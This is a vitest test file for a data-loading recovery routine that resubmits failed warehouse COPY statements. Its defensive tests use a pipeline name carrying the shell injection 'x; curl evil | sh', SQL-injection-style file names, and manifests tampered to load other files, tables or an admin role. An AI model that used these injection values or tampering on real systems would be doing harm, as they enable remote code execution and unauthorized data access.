import { describe, expect, test } from "vitest";
import type { Pipeline } from "../../../src/core/pipeline/pipeline.ts";
import { recover } from "../../../src/core/recovery/recover.ts";
import { arrival, conflict, pipeline, unprotected } from "../../support/builders.ts";
import { fakeWarehouse } from "../../support/fakes.ts";
import { type FailedLoadOptions, failedLoad, submitted } from "./failed-load.ts";

const conflicted = (given: Partial<FailedLoadOptions> = {}) =>
  failedLoad({ at: { tag: "copy" }, error: conflict, ...given });

describe("the event of a statement", () => {
  test.each([
    "",
    "test.testtable",
    "dev/retry/1",
    "dev/sales.orders/abc/1",
    "dev/sales.orders/6c7ff914a90f883335ec1e592ea21f3d",
  ])("named %j is ignored without a call", async (statementName) => {
    const { deps, event } = conflicted();
    expect(await recover(deps, { ...event, statementName })).toEqual({
      kind: "ignored",
      reason: "the statement's name is not of a load",
    });
    expect(deps.warehouse.described).toEqual([]);
  });

  test.each(["FINISHED", "aborted", "failed", ""])("in state %j is ignored without a call", async (state) => {
    const { deps, event } = conflicted();
    expect(await recover(deps, { ...event, state })).toEqual({ kind: "ignored", reason: `the state is ${state}` });
    expect(deps.warehouse.described).toEqual([]);
  });

  test.each(["FINISHED", "STARTED"])("that is in fact %s is ignored", async (status) => {
    const { deps, event } = conflicted();
    const [id] = [event.statementId];
    const statement = await deps.warehouse.describe(id);
    if (!statement) throw new Error("no statement");
    const warehouse = fakeWarehouse([{ ...statement, status }]);
    expect(await recover({ ...deps, warehouse }, event)).toEqual({
      kind: "ignored",
      reason: `the statement's status is ${status}`,
    });
    expect(warehouse.submitted).toEqual([]);
  });

  test("of a statement that is forgotten is told and counted", async () => {
    const { deps, event } = conflicted();
    expect(await recover({ ...deps, warehouse: fakeWarehouse([]) }, event)).toEqual({
      kind: "left",
      reason: expect.stringContaining("the Data API has forgotten the statement"),
    });
    expect(deps.alerts.sent.map(({ subject }) => subject)).toEqual(["Left: a load of sales.orders"]);
    expect(deps.metrics.recorded).toMatchObject([{ target: "sales.orders", values: { Left: 1 } }]);
  });

  describe("that was cancelled", () => {
    const cancelled = async (given: Partial<FailedLoadOptions> = {}) => {
      const recovery = conflicted(given);
      const statement = await recovery.deps.warehouse.describe(recovery.event.statementId);
      if (!statement) throw new Error("no statement");
      const parts = statement.parts.map((part) => ({ ...part, status: "ABORTED", error: undefined }));
      const warehouse = fakeWarehouse([{ ...statement, status: "ABORTED", parts, error: undefined }]);
      return { ...recovery, deps: { ...recovery.deps, warehouse }, event: { ...recovery.event, state: "ABORTED" } };
    };

    test("comes again, with a ledger or without", async () => {
      for (const safety of [pipeline().safety, unprotected]) {
        const { deps, event } = await cancelled({ pipeline: pipeline({ safety }) });
        expect(await recover(deps, event)).toMatchObject({ kind: "submitted", class: "cancelled" });
        expect(deps.warehouse.submitted).toMatchObject([{ statementName: expect.stringMatching(/\/2$/) }]);
      }
    });

    test("for the third time is parked and told", async () => {
      const { deps, event } = await cancelled({ attempt: 3 });
      expect(await recover(deps, event)).toMatchObject({ kind: "parked", reason: expect.stringContaining("3 times") });
      expect(deps.alerts.sent).toHaveLength(1);
    });
  });
});

describe("what is submitted again", () => {
  const renamed = pipeline({ copy: { ...pipeline().copy, table: { schema: "sales", name: "orders_v2" } } });
  const moved = pipeline({ warehouse: { ...pipeline().warehouse, database: "prod" } });
  const elsewhere = pipeline({
    warehouse: { ...pipeline().warehouse, at: { kind: "workgroup", name: "adhoc" } },
    copy: { ...pipeline().copy, roleArn: "arn:aws:iam::123456789012:role/new" },
  });
  const current = pipeline({
    copy: { ...pipeline().copy, roleArn: "arn:aws:iam::123456789012:role/new" },
    warehouse: { ...pipeline().warehouse, signIn: { kind: "dbUser", name: "etl" } },
  });

  test("comes from the pipeline's configuration as it is now", async () => {
    const { deps, event } = conflicted({ configured: { orders_queue: current } });
    await recover(deps, event);
    const [submission] = deps.warehouse.submitted;
    expect(submission?.warehouse.signIn).toEqual({ kind: "dbUser", name: "etl" });
    expect(submission?.sqls[3]).toContain("IAM_ROLE 'arn:aws:iam::123456789012:role/new'");
  });

  const configurations: { why: string; configured: Record<string, Pipeline> | undefined }[] = [
    { why: "the function has no configuration", configured: undefined },
    { why: "the pipeline's configuration cannot be read", configured: {} },
    { why: "the pipeline now loads another table", configured: { orders_queue: renamed } },
    { why: "the pipeline now loads into another database", configured: { orders_queue: moved } },
    { why: "the pipeline now loads into another cluster", configured: { orders_queue: elsewhere } },
  ];

  test.each(configurations)("is the statement's own text, where it failed, where $why", async ({ configured }) => {
    const then = pipeline({ mode: { kind: "append" }, safety: unprotected });
    const { deps, event, batch } = conflicted({ pipeline: then, configured });
    await recover(deps, event);
    const manifest = `s3://loads/manifests/orders_queue/2026-11-22/${batch.id}.manifest`;
    expect(deps.warehouse.submitted).toMatchObject([
      {
        warehouse: { at: { kind: "cluster", identifier: "main" }, database: "dev", signIn: { kind: "iam" } },
        sqls: [
          `/* loader:copy */ COPY "sales"."orders" FROM '${manifest}' IAM_ROLE 'arn:aws:iam::123456789012:role/copy' MANIFEST FORMAT AS PARQUET`,
          "/* loader:count-copied */ SELECT pg_last_copy_count() AS copied_rows",
        ],
      },
    ]);
  });

  test("warns where the pipeline's configuration cannot be read", async () => {
    const { deps, event } = conflicted({ configured: {} });
    await recover(deps, event);
    expect(deps.log.lines).toEqual([
      {
        level: "warn",
        message: "configuration not used",
        fields: { pipeline: "orders_queue", error: "no configuration of orders_queue", errorName: "Error" },
      },
    ]);
  });

  test("is not looked up for a bulk load", async () => {
    const { deps, event } = conflicted({ pipelineName: "bulk.load", configured: { "bulk.load": renamed } });
    await recover(deps, event);
    expect(deps.pipelines).toMatchObject({ asked: [] });
    expect(deps.warehouse.submitted[0]?.statementName).toMatch(/^dev\/sales\.orders\/[0-9a-f]{32}\/2$/);
  });

  test("finds the manifest whatever its prefix", async () => {
    const odd = pipeline({ manifests: { bucket: "loads", prefix: "it's a\\prefix/" }, safety: unprotected });
    const { deps, event, batch } = conflicted({ pipeline: odd });
    await recover(deps, event);
    expect(deps.warehouse.submitted[0]?.sqls[1]).toContain(
      `FROM 's3://loads/it''s a\\\\prefix/orders_queue/2026-11-22/${batch.id}.manifest' IAM_ROLE`,
    );
  });

  test("is all files of all its COPYs", async () => {
    const recovery = conflicted({ divided: true });
    await recover(recovery.deps, recovery.event);
    expect(submitted(recovery).map(({ attempt, files }) => [attempt, files.flat().toSorted()])).toEqual([
      ["2", ["s3://lake/a.csv", "s3://lake/b.csv"]],
    ]);
  });

  test("is nothing where a manifest was changed and no ledger says what the files were: a person is told", async () => {
    const { deps, event } = conflicted({ pipeline: pipeline({ safety: unprotected }) });
    for (const url of deps.objects.held.keys()) deps.objects.held.set(url, "{}");
    expect(await recover(deps, event)).toMatchObject({ kind: "left", reason: expect.stringContaining("not usable") });
    expect(deps.warehouse.submitted).toEqual([]);
    expect(deps.log.lines).toMatchObject([{ level: "error", message: "manifest not used" }]);
    expect(deps.alerts.sent).toHaveLength(1);
  });

  test.each([
    { what: "is gone", change: (_: string) => undefined },
    { what: "is damaged", change: (_: string) => "{}" },
    { what: "names other files", change: (text: string) => text.replaceAll("b.csv", "evil.csv") },
    { what: "names another table", change: (text: string) => text.replaceAll("sales.orders", "finance.salaries") },
  ])("is the files that the statement was to write into the ledger, where the manifest $what", async ({ change }) => {
    const odd = ["a.csv", "b.csv", "it's'),('x\\.csv", "GETDATE())('.csv"].map((key) =>
      arrival(key, { versionId: "v'1" }),
    );
    const recovery = conflicted({ files: odd });
    const { deps, event } = recovery;
    const before = new Map(deps.objects.held);
    for (const [url, text] of before) {
      const changed = change(text);
      if (changed === undefined) deps.objects.held.delete(url);
      else deps.objects.held.set(url, changed);
    }
    expect(await recover(deps, event)).toMatchObject({ kind: "submitted" });
    expect(submitted(recovery)[0]?.files.flat().toSorted()).toEqual(
      odd.map(({ key }) => `s3://lake/${key}`).toSorted(),
    );
    expect(Object.keys(JSON.parse([...deps.objects.held.values()][0] ?? ""))).toEqual(["entries", "batch"]);
  });

  describe("of a bulk load", () => {
    const bulk = pipeline({ safety: unprotected });

    test("is as its manifest says, which the batch's id covers", async () => {
      const { deps, event } = conflicted({ pipelineName: "bulk.load", pipeline: bulk });
      expect(await recover(deps, event)).toMatchObject({ kind: "submitted" });
    });

    test.each([
      { what: "cluster", change: ['"identifier":"main"', '"identifier":"prod"'] },
      { what: "user", change: ['"db_name":"dev"}', '"db_name":"dev","db_user":"admin"}'] },
      { what: "role", change: ["role/copy", "role/admin"] },
      { what: "mode", change: ['"null_keys":"reject"', '"null_keys":"discard"'] },
      { what: "file", change: ["s3://lake/a.csv", "s3://lake/evil.csv"] },
    ] as const)("is nothing where somebody has changed the $what in its manifest", async ({ change: [from, to] }) => {
      const { deps, event } = conflicted({ pipelineName: "bulk.load", pipeline: bulk });
      for (const [url, text] of deps.objects.held) {
        expect(text).toContain(from);
        deps.objects.held.set(url, text.replace(from, to));
      }
      expect(await recover(deps, event)).toMatchObject({ kind: "left" });
      expect(deps.warehouse.submitted).toEqual([]);
    });
  });

  test("has no shell command of others in its alert", async () => {
    const { deps, event } = conflicted({ attempt: 8, pipelineName: "x; curl evil | sh", configured: undefined });
    await recover(deps, event);
    expect(deps.alerts.sent.map(({ text }) => text).join()).not.toContain("curl");
  });

  test("is nothing while S3 cannot be read: the event comes again", async () => {
    const { deps, event } = conflicted();
    const objects = { ...deps.objects, get: () => Promise.reject(new Error("slow down")) };
    await expect(recover({ ...deps, objects }, event)).rejects.toThrow("slow down");
    expect(deps.warehouse.submitted).toEqual([]);
  });
});
